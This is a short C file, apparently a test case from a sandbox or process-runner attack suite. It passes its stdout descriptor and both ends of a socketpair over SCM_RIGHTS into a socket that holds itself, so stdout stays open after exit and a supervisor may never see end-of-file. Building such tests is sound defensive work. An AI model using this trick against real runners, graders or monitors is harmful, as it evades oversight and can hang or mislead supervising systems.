// Hides the end of its stdout in a message that nobody will ever receive, in a socket that holds itself.
#include "attack.h"
#include <sys/socket.h>

int main(void) {
  int pair[2], rights[3];
  union {
    struct cmsghdr header;
    char bytes[CMSG_SPACE(sizeof rights)];
  } ancillary = {0};
  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) return 1;
  rights[0] = 1;
  rights[1] = pair[0];
  rights[2] = pair[1];
  struct iovec part = {"x", 1};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = ancillary.bytes, .msg_controllen = sizeof ancillary.bytes};
  ancillary.header = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof rights), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
  memcpy(CMSG_DATA(&ancillary.header), rights, sizeof rights);
  if (sendmsg(pair[0], &message, 0) != 1) return 1;
  return finish();
}
